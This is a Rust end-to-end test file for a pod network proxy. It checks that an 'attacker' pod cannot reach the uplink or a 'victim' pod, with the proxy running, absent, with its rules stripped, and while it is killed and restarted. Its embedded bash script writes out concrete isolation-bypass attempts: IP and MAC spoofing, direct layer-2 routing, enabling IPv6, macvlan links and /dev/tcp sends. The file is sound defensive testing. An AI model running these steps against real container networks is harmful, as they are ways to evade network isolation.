//! Not one packet gets out around the proxy: with the proxy running, without it, and while it comes and goes.
//!
//! The uplink has permanent neighbours on both ends and carries nothing but the node's own business, and in these tests
//! the node has none: the captures must be empty. Each test ends with a packet of the node's own that the capture must
//! have, so that an empty capture means something.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test fails by panicking"
)]

use std::collections::BTreeSet;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use e2e::addresses::{NODE, ROUTER};
use e2e::capture::Capture;
use e2e::cni::PLUGIN;
use e2e::machine::can_run;
use e2e::outside::DOWNLINK;
use e2e::patience::slowdown;
use e2e::place::Finished;
use e2e::process::Process;
use e2e::{Node, Pod, PodSpec};
use nix::sys::signal::Signal;

mod support;
use support::assert_empty;

const FRAMES: &str = include_str!("frames.py");
/// A port on which the node and the other pod have listeners that nobody may reach.
const TRAP: u16 = 9997;

struct Scene {
    node: Node,
    pod: Pod,
    other: Pod,
    traps: Vec<Process>,
}

impl Scene {
    fn new(name: &str) -> Option<Scene> {
        if !can_run().unwrap() {
            return None;
        }
        let mut node = Node::start(name).unwrap();
        let pod = node.add_pod(&PodSpec::named("attacker")).unwrap();
        let other = node.add_pod(&PodSpec::named("victim")).unwrap();
        let mut traps = Vec::new();
        for (who, place) in [("node", node.place()), ("victim", other.place().clone())] {
            for kind in [
                "UDP4-RECVFROM",
                "UDP6-RECVFROM",
                "TCP4-LISTEN",
                "TCP6-LISTEN",
            ] {
                let v6only = if kind.contains('6') {
                    ",ipv6only=1"
                } else {
                    ""
                };
                let listen = format!("{kind}:{TRAP},fork,reuseaddr{v6only}");
                traps.push(
                    place
                        .spawn(
                            &format!("trap-{who}-{kind}"),
                            &["socat", "-u", &listen, "SYSTEM:echo trapped; cat"],
                            &[],
                        )
                        .unwrap(),
                );
            }
        }
        Some(Scene {
            node,
            pod,
            other,
            traps,
        })
    }

    /// Everything that a pod with all rights on its own network may try. Returns what was tried.
    fn try_everything(&self) -> Vec<String> {
        let (pod, other) = (&self.pod, &self.other);
        let macs = Macs::of(pod, other);
        let (ip, gateway) = (pod.ip, pod.gateway);
        let (own_mac, other_mac, gateway_mac) = (&macs.own, &macs.other, &macs.gateway);
        let sent = send_frames(pod, other, &macs);
        let mut tried: Vec<String> = sent.stdout.lines().map(str::to_owned).collect();
        assert!(tried.len() > 30, "{sent}");

        // through the pod's own stack
        let other_ip = other.ip;
        let script = format!(
            r#"
            for a in 203.0.113.10 {NODE} {ROUTER} {gateway} {other_ip} 10.96.0.80 255.255.255.255; do
              for p in 123 443 {TRAP}; do echo leak > /dev/udp/$a/$p; done
              ping -c 1 -W 1 $a &
            done 2>/dev/null
            wait
            for a in {NODE} {gateway} {ROUTER} 127.0.0.1; do timeout 1 bash -c "echo leak > /dev/tcp/$a/{TRAP}"; done 2>/dev/null
            timeout 1 bash -c "echo leak > /dev/tcp/{other_ip}/{TRAP}" 2>/dev/null
            # a second address, and one of somebody else's
            third=$(echo {ip} | sed 's/\.[0-9]*$/.250/')
            for a in $third {other_ip} 192.0.2.77; do
              ip addr add $a/32 dev eth0 && echo did:address
              curl -s -m 1 --interface $a http://203.0.113.10/ -o /dev/null
              python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('$a', 0)); s.sendto(b'leak', ('203.0.113.10', 443))
s.sendto(b'leak', ('198.51.100.53', 53))"
              ip addr del $a/32 dev eth0
            done
            # another hardware address
            ip link set eth0 address 02:de:ad:be:ef:02 && echo did:mac
            ip neigh replace {gateway} lladdr {gateway_mac} dev eth0 nud permanent
            curl -s -m 1 http://203.0.113.10/ -o /dev/null; echo leak > /dev/udp/203.0.113.10/443
            ip link set eth0 address {own_mac}
            ip neigh replace {gateway} lladdr {gateway_mac} dev eth0 nud permanent
            # layer 2 to the other pod, without the gateway
            ip route add {other_ip}/32 dev eth0; ip neigh replace {other_ip} lladdr {other_mac} dev eth0 && echo did:layer2
            timeout 1 bash -c "echo leak > /dev/tcp/{other_ip}/{TRAP}"; echo leak > /dev/udp/{other_ip}/{TRAP}
            ip route del {other_ip}/32 dev eth0
            # IPv6, when the pod turns it on itself
            sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0; sleep 0.3
            ip -6 addr show dev eth0 | grep -q fe80 && echo did:ipv6
            timeout 1 socat - "TCP6:[fe80::1%eth0]:{TRAP}" < /dev/null
            ping -6 -c 1 -W 1 ff02::1%eth0; echo leak | timeout 1 socat - UDP6:[ff02::1%eth0]:{TRAP}
            sysctl -qw net.ipv6.conf.eth0.disable_ipv6=1
            # links of its own on top of eth0
            ip link add mv0 link eth0 type macvlan && {{ ip link set mv0 up; ip addr add {NODE}/24 dev mv0; ping -c 1 -W 1 -I mv0 {ROUTER}; ip link del mv0; echo did:macvlan; }}
            true"#,
        );
        let done = pod
            .place()
            .run_with(&["bash", "-c", &script], &[], b"", 90 * slowdown())
            .unwrap();
        for step in ["address", "mac", "layer2", "ipv6", "macvlan"] {
            assert!(
                done.stdout.contains(&format!("did:{step}")),
                "{step}: {done}"
            );
        }
        pod.place().sh(&format!("ip route replace {gateway} dev eth0 scope link; ip route replace default via {gateway}")).unwrap();
        tried.push("sockets".to_owned());
        tried
    }

    fn assert_nobody_was_reached(&self) {
        for trap in &self.traps {
            assert!(
                !trap.log_text().contains("trapped"),
                "{}: {}",
                trap.log_path().display(),
                trap.log_text()
            );
        }
    }
}

/// The hardware addresses that an attacker knows.
struct Macs {
    own: String,
    other: String,
    gateway: String,
}

impl Macs {
    fn of(pod: &Pod, other: &Pod) -> Macs {
        let after = |text: &str, word: &str| {
            let rest = text.split(word).nth(1);
            let rest = rest.unwrap_or_else(|| panic!("no {word}in {text}"));
            rest.split(' ').next().unwrap_or_default().to_owned()
        };
        let link = |p: &Pod| after(&p.sh("ip -o link show eth0").unwrap().stdout, "link/ether ");
        let neighbours = pod.sh("ip neigh show dev eth0").unwrap().stdout;
        Macs {
            own: link(pod),
            other: link(other),
            gateway: after(&neighbours, "lladdr "),
        }
    }
}

/// Sends every kind of raw frame from the pod; its output names each.
fn send_frames(pod: &Pod, other: &Pod, macs: &Macs) -> Finished {
    let (ip, gateway, other_ip) = (
        pod.ip.to_string(),
        pod.gateway.to_string(),
        other.ip.to_string(),
    );
    let line = [
        "/usr/bin/python3",
        "-c",
        FRAMES,
        &ip,
        &macs.own,
        &gateway,
        &macs.gateway,
        &other_ip,
        &macs.other,
    ];
    pod.place().run(&line).unwrap().success().unwrap()
}

fn uplink(node: &Node, name: &str) -> Capture {
    Capture::start(node.outside.place(), name, DOWNLINK, "").unwrap()
}

#[test]
fn nothing_gets_out_around_a_running_proxy_and_each_kind_is_counted() {
    let Some(mut scene) = Scene::new("leaks") else {
        return;
    };
    scene.node.start_proxy().unwrap();
    let at_the_other =
        Capture::start(scene.other.network(), "at-the-other-pod", "eth0", "inbound").unwrap();
    let capture = uplink(&scene.node, "uplink");
    let tried = scene.try_everything();
    assert_empty(&scene.node, capture, "with the proxy running");
    let heard = at_the_other.stop().unwrap().packets("").unwrap();
    assert!(
        heard.is_empty(),
        "the other pod was reached:\n{}",
        heard.join("\n")
    );
    scene.assert_nobody_was_reached();

    let metrics = scene.node.metrics().unwrap();
    let counted: BTreeSet<&str> = metrics
        .lines()
        .filter(|l| !l.ends_with(" 0"))
        .filter_map(|l| l.split("reason=\"").nth(1)?.split('"').next())
        .collect();
    for reason in [
        "udp",
        "icmp",
        "protocol",
        "spoofed_ip",
        "spoofed_mac",
        "fragment",
        "vlan",
        "ipv6",
        "arp_not_for_gateway",
        "not_ipv4",
        "malformed",
    ] {
        assert!(
            counted.contains(reason),
            "no counter for {reason} after {tried:?}; there are {counted:?}"
        );
    }
    // and the pod still works
    let done = scene.pod.curl(&["http://docs.example.com/"]).unwrap();
    assert_eq!(support::status(&done), 200, "{done}");
}

#[test]
fn nothing_gets_out_without_a_proxy() {
    let Some(scene) = Scene::new("leaks-noproxy") else {
        return;
    };
    let capture = uplink(&scene.node, "uplink");
    scene.try_everything();
    let script = "curl -sS -m 2 http://203.0.113.10/; dig +tries=1 +time=1 @198.51.100.53 docs.example.com; \
                  dig +tcp +tries=1 +time=1 @10.96.0.10 docs.example.com; curl -sS -m 2 -k https://203.0.113.20/";
    let done = scene.pod.sh(script).unwrap();
    assert!(!done.all().contains("hello"), "{done}");
    assert_empty(&scene.node, capture, "without a proxy");
    scene.assert_nobody_was_reached();
}

#[test]
fn nothing_gets_out_when_all_that_controls_pods_is_removed_at_once() {
    let Some(mut scene) = Scene::new("leaks-locks") else {
        return;
    };
    scene.node.start_proxy().unwrap();
    let capture = uplink(&scene.node, "uplink");
    let compat = std::env::var("AGENT_NETWORK_TEST_MODE").as_deref() == Ok("iptables-compat");
    let remove = if compat {
        "nft flush ruleset"
    } else {
        // by a pinned link, or before Linux 6.6 by a filter, which a link's pin is nothing to
        "cd /sys/fs/bpf/agent-network/v1/links; rm -f agt*; \
         for pod in $(ip -o link show master agentcni0 | grep -o 'agt[0-9a-f]*' | sort -u); do \
           tc filter del dev $pod ingress 2>/dev/null; done; \
         nft delete table ip agent_network"
    };
    let node = scene.node.place();
    node.sh(remove).unwrap().success().unwrap();
    let left = node.sh("nft list tables").unwrap();
    assert!(!left.stdout.contains("agent_network"), "{left}");
    let programs = node.sh("bpftool net show").unwrap();
    assert!(!programs.stdout.contains("pod_ingress"), "{programs}");
    scene.try_everything();
    // nothing works, and nothing gets out
    let done = scene.pod.sh("curl -sS -m 2 http://203.0.113.10/").unwrap();
    assert!(!done.ok(), "{done}");
    let setup = node.sh(&format!("{PLUGIN} setup")).unwrap();
    setup.clone().success().unwrap();
    assert_eq!(setup.stdout.matches("mended: pod").count(), 2, "{setup}");
    assert_empty(&scene.node, capture, remove);
    scene.assert_nobody_was_reached();
    let done = scene.pod.curl(&["http://docs.example.com/"]).unwrap();
    assert_eq!(support::status(&done), 200, "{done}");
}

#[test]
fn nothing_gets_out_while_the_proxy_is_killed_and_restarted() {
    let Some(mut scene) = Scene::new("leaks-restart") else {
        return;
    };
    // a policy that lets nothing out: whatever is on the uplink has gone around the proxy
    scene
        .node
        .write_policy(&e2e::policy::Policy::new().document())
        .unwrap();
    scene.node.start_proxy().unwrap();
    let capture = uplink(&scene.node, "uplink");
    let done = AtomicBool::new(false);
    let Scene {
        node, pod, other, ..
    } = &mut scene;
    let macs = Macs::of(pod, other);
    std::thread::scope(|s| {
        let flood = s.spawn(|| {
            let mut rounds = 0;
            while !done.load(Ordering::Relaxed) {
                let script = "for i in $(seq 20); do \
                    curl -s -m 1 http://203.0.113.10/ -o /dev/null & curl -s -m 1 -k https://203.0.113.20/ -o /dev/null & \
                    dig +tries=1 +time=1 @198.51.100.53 docs.example.com > /dev/null & \
                    echo leak > /dev/udp/203.0.113.10/443; timeout 1 bash -c 'echo leak > /dev/tcp/192.0.2.1/22' & done 2>/dev/null; wait";
                pod.sh(script).unwrap();
                send_frames(pod, other, &macs);
                rounds += 1;
            }
            rounds
        });
        let until = Instant::now() + Duration::from_secs(8);
        let mut kills = 0;
        while Instant::now() < until {
            std::thread::sleep(Duration::from_millis(300));
            let signal = if kills % 2 == 0 {
                Signal::SIGKILL
            } else {
                Signal::SIGTERM
            };
            node.stop_proxy(signal).unwrap();
            std::thread::sleep(Duration::from_millis(150));
            node.start_proxy().unwrap();
            kills += 1;
        }
        done.store(true, Ordering::Relaxed);
        assert!(flood.join().unwrap() > 1 && kills > 3);
    });
    assert_empty(&scene.node, capture, "while the proxy restarts");
    scene.assert_nobody_was_reached();
}
